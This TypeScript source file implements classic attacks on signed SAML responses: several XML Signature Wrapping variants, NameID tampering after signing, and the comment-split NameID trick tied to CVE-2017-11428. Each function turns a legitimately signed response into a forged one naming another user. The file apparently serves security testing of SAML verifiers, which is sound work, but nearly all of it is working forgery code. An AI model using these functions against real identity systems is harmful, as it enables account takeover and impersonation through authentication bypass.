// The classic attacks on a signed SAML response, made from the real signed XML an IdP sent (an
// attacker holds one for their own account): XML Signature Wrapping (Somorovsky et al., "On
// Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012) moves the signed element where
// the verifier still finds it and puts an unsigned one where the application reads; the others
// change signed content. Each takes and returns the base64 SAMLResponse.
import { NS, parseXml, samlId, selectElement, serializeXml } from "./saml-xml";

/** XSW (a), their XSW3: an unsigned evil copy naming `nameId` (a new ID) inserted before the signed assertion. */
export function xswEvilAssertionFirst(samlResponse: string, nameId: string): string {
  return tamper(samlResponse, (doc, signed) => {
    signed.parentNode!.insertBefore(evilCopy(signed, nameId), signed);
  });
}

/** Where xswWrappedAssertion hides the signed assertion. */
export type XswWrapper = "extensions" | "signature-object" | "evil-assertion";

/**
 * XSW (b): the evil assertion naming `nameId` takes the signed one's place; the signed one moves
 * into `wrapper`: "extensions" the Response's samlp:Extensions (their XSW7), "signature-object" a
 * ds:Object of the signature it now carries, stripped of that signature (XSW8), "evil-assertion"
 * the evil assertion's last child, signature and all (XSW4).
 */
export function xswWrappedAssertion(samlResponse: string, nameId: string, wrapper: XswWrapper): string {
  return tamper(samlResponse, (doc, signed) => {
    const response = doc.documentElement;
    const evil = evilCopy(signed, nameId);
    response.replaceChild(evil, signed);
    if (wrapper === "extensions") {
      // SAML Core §3.2.2: Extensions sits after Issuer and Signature, before Status.
      const extensions = doc.createElementNS(NS.protocol, "samlp:Extensions");
      extensions.appendChild(signed);
      response.insertBefore(extensions, selectElement("samlp:Status", response));
    } else if (wrapper === "signature-object") {
      const signature = selectElement("ds:Signature", signed)!;
      signed.removeChild(signature);
      const object = doc.createElementNS(NS.ds, "ds:Object");
      object.appendChild(signed);
      signature.appendChild(object);
      evil.insertBefore(signature, selectElement("saml:Issuer", evil)!.nextSibling);
    } else {
      evil.appendChild(signed);
    }
  });
}

/** (c) The NameID's text replaced after signing: the assertion's digest no longer matches. */
export function tamperNameId(samlResponse: string, nameId: string): string {
  return tamper(samlResponse, (doc, signed) => {
    selectElement("saml:Subject/saml:NameID", signed)!.textContent = nameId;
  });
}

/**
 * (d) A comment splits the signed NameID after its `at`th character (CVE-2017-11428 and kin): c14n
 * without comments drops it, so the signature still verifies, and an SP reading only the first
 * text node sees a shorter name: "admin@example.com<!---->.attacker.test".
 */
export function commentInNameId(samlResponse: string, at: number): string {
  return tamper(samlResponse, (doc, signed) => {
    const nameId = selectElement("saml:Subject/saml:NameID", signed)!;
    const value = nameId.textContent ?? "";
    while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
    nameId.appendChild(doc.createTextNode(value.slice(0, at)));
    nameId.appendChild(doc.createComment(""));
    nameId.appendChild(doc.createTextNode(value.slice(at)));
  });
}

/**
 * XSW on the Response's own signature (their XSW1): a new Response with a new ID whose assertion
 * names `nameId`, carrying the signed Response's ds:Signature with the signed Response (less that
 * signature) inside a ds:Object. Made from a response signed with sign "response" or "both".
 */
export function xswWrappedResponse(samlResponse: string, nameId: string): string {
  return tamper(samlResponse, (doc) => {
    const original = doc.documentElement;
    const signature = selectElement("ds:Signature", original);
    if (!signature) throw new Error("the Response is not signed");
    const evilResponse = original.cloneNode(true) as Element;
    evilResponse.setAttribute("ID", samlId());
    const copiedAssertion = selectElement("saml:Assertion", evilResponse)!;
    evilResponse.replaceChild(evilCopy(copiedAssertion, nameId), copiedAssertion);
    const copiedSignature = selectElement("ds:Signature", evilResponse)!;
    original.removeChild(signature);
    doc.replaceChild(evilResponse, original);
    const object = doc.createElementNS(NS.ds, "ds:Object");
    object.appendChild(original);
    copiedSignature.appendChild(object);
  });
}

function tamper(samlResponse: string, change: (doc: Document, signedAssertion: Element) => void): string {
  const doc = parseXml(Buffer.from(samlResponse, "base64").toString("utf8"));
  const assertion = selectElement("/samlp:Response/saml:Assertion", doc);
  if (!assertion) throw new Error("no plain saml:Assertion in the Response (an encrypted one cannot be wrapped from outside)");
  change(doc, assertion);
  return Buffer.from(serializeXml(doc), "utf8").toString("base64");
}

/** The assertion as the attacker wants it: a new ID, their NameID, no signature. */
function evilCopy(signed: Element, nameId: string): Element {
  const evil = signed.cloneNode(true) as Element;
  evil.setAttribute("ID", samlId());
  const signature = selectElement("ds:Signature", evil);
  if (signature) evil.removeChild(signature);
  selectElement("saml:Subject/saml:NameID", evil)!.textContent = nameId;
  return evil;
}
